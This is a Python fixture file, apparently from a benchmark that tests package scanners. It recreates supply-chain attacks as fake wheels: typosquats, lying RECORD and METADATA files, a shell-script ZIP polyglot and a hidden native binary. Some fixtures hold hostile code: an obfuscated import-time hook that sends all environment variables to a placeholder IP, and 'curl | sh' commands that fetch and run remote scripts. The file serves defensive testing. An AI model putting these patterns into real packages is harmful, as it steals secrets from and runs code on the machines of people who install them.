"""Packages that are not what they say: names, copies, archives that read in two ways, metadata and records that lie."""

import base64
from typing import Final

from bench.screening.attacks.attack import INERT, MARKER, Attack, Release
from bench.screening.attacks.building import behind, elf
from bench.screening.attacks.ordinary import COMMENT, library
from sandboxes.screening.package import Kind

# What such packages copy: the surface of the library they are taken for, here without its work.
_COPIED = f'''{COMMENT}"""HTTP for people."""

from .models import Response


def request(method, url, **more):
    return Response(method, url, more)


def get(url, **more):
    return request("GET", url, **more)


def post(url, data=None, **more):
    return request("POST", url, data=data, **more)
'''

_MODELS = f"""{COMMENT}class Response:
    def __init__(self, method, url, more):
        self.method, self.url, self.more = method, url, more
        self.status_code = 200

    def raise_for_status(self):
        if self.status_code >= 400:
            raise ValueError(self.status_code)
"""

_EXTRA = f'''{COMMENT}import base64
import os
import urllib.request

_url = base64.b64decode("{base64.b64encode(b"http://192.0.2.101/q").decode()}").decode()
urllib.request.urlopen(_url, repr(dict(os.environ)).encode())
'''

_DECODED = f"""
import base64
exec(base64.b64decode("{base64.b64encode(INERT.encode()).decode()}").decode())
"""

_DOWNLOAD = """
import subprocess
subprocess.Popen("curl -s http://192.0.2.107/r | sh", shell=True)
"""

_SHELL_HEAD = f"""#!/bin/sh
# {MARKER}
curl -s https://front.example.invalid/a.sh | sh
exit 0
""".encode()


def _typosquat(name: str, recreates: str, project: str, package: str) -> Attack:
    copied = {
        f"{package}/__init__.py": _COPIED + "\nfrom . import _compat\n",
        f"{package}/models.py": _MODELS,
    }
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.WHEEL,
        project=project,
        release=Release("2.32.5", {**copied, f"{package}/_compat.py": _EXTRA}),
        since="2026-10-31T08:00:00Z",
        expects=frozenset({"look-alike", "import-time", "secrets"}),
    )


ATTACKS: Final[tuple[Attack, ...]] = (
    _typosquat(
        "typosquat",
        "python3-dateutil and the many of requests (2019 on): copied code and one file more",
        "reqeusts",
        "reqeusts",
    ),
    _typosquat(
        "confusable-name",
        "jeIlyfish (2019): a name that differs in one letter that looks the same",
        "crypt0graphy",
        "cryptography",
    ),
    Attack(
        name="look-alike-alone",
        recreates="the name squats that wait (since 2017): a young look-alike that installs under the known name",
        kind=Kind.WHEEL,
        project="urlib3",
        release=Release(
            "2.8.0",
            {"urllib3/__init__.py": _COPIED, "urllib3/models.py": _MODELS},
            metadata={"Summary": "HTTP library with thread-safe connection pooling"},
        ),
        since="2026-10-31T08:00:00Z",
        expects=frozenset({"look-alike"}),
    ),
    Attack(
        name="record-lies",
        recreates="the confusions of wheels shown in 2025: RECORD gives another digest, and leaves a module out",
        kind=Kind.WHEEL,
        project="record-text-kit",
        release=Release(
            "1.1.0",
            {**library("record_text_kit", _DECODED), "record_text_kit/_late.py": COMMENT + _DOWNLOAD},
            recorded={"record_text_kit/text.py": b"something else", "record_text_kit/_late.py": None},
        ),
        expects=frozenset({"metadata", "record", "obfuscation"}),
    ),
    Attack(
        name="record-lies-alone",
        recreates="the confusions of wheels shown in 2025: the same, and nothing else to be seen",
        kind=Kind.WHEEL,
        project="record-text-only",
        release=Release(
            "1.1.0",
            library("record_text_only"),
            recorded={"record_text_only/text.py": b"something else", "record_text_only/client.py": None},
        ),
        expects=frozenset({"metadata", "record"}),
    ),
    Attack(
        name="metadata-disagrees",
        recreates="the confusion of names in uploads (2024): file name and METADATA name different projects",
        kind=Kind.WHEEL,
        project="plain-text-kit",
        release=Release(
            "1.0.0",
            library("plain_text_kit"),
            metadata={"Name": "requests", "Version": "2.32.5", "Requires-Dist": "reqeusts"},
        ),
        expects=frozenset({"metadata"}),
    ),
    Attack(
        name="polyglot",
        recreates="the ZIP confusion of CVE-2025-54368 (2025): a script in front of a wheel",
        kind=Kind.WHEEL,
        project="two-text-faces",
        release=Release("0.5.0", library("two_text_faces"), tamper=behind(_SHELL_HEAD)),
        expects=frozenset({"archive", "metadata"}),
    ),
    Attack(
        name="native-in-scripts",
        recreates="the miners of 2021 (maratlib): a program among a wheel's scripts, which lands in PATH",
        kind=Kind.WHEEL,
        project="marat-text-kit",
        release=Release(
            "0.6",
            {**library("marat_text_kit"), "marat_text_kit-0.6.data/scripts/python3-config": elf(64)},
        ),
        expects=frozenset({"native"}),
    ),
)
